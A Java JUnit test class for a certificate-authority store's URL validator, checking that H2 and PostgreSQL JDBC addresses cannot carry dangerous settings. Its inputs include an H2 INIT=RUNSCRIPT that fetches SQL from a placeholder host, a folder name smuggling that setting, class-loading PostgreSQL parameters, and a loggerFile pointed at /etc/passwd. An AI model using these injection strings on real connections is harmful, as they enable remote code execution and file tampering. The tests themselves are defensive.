package io.postern.pkica.store;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import java.nio.file.Path;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/** What an address of a store may not do. */
class StoreUrlTest {
  @Test
  void aFoldersNameIsNoSettingOfH2() {
    assertThatThrownBy(() -> StoreUrl.embedded(Path.of("/tmp/a;INIT=RUNSCRIPT FROM 'x.sql'")))
        .isInstanceOf(StoreException.class);
    assertThatThrownBy(() -> StoreUrl.embedded(Path.of("/tmp/a\\;INIT=x")))
        .isInstanceOf(StoreException.class);
    assertThat(StoreUrl.embedded(Path.of("/var/lib/postern ca")))
        .startsWith("jdbc:h2:file:/var/lib/postern ca/authority;");
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "jdbc:h2:mem:x;INIT=RUNSCRIPT FROM 'http://192.0.2.1/x.sql'",
        "jdbc:postgresql://db/ca?socketFactory=org.example.Factory&socketFactoryArg=x",
        "jdbc:postgresql://db/ca?user=a&sslfactory=org.example.Factory",
        "jdbc:postgresql://db/ca?authenticationPluginClassName=org.example.Plugin",
        "jdbc:postgresql://db/ca?SSLPasswordCallback=org.example.Callback",
        "jdbc:postgresql://db/ca?loggerFile=/etc/passwd"
      })
  void whatLoadsClassesOrRunsStatementsIsRefused(String url) {
    assertThatThrownBy(() -> StoreUrl.postgreSql(url)).isInstanceOf(StoreException.class);
  }

  @Test
  void whatSaysHowToReachIsLetThrough() {
    String url = "jdbc:postgresql://db/ca?user=a&password=b&sslmode=verify-full&sslrootcert=/c";

    assertThat(StoreUrl.postgreSql(url)).isEqualTo(url);
  }
}
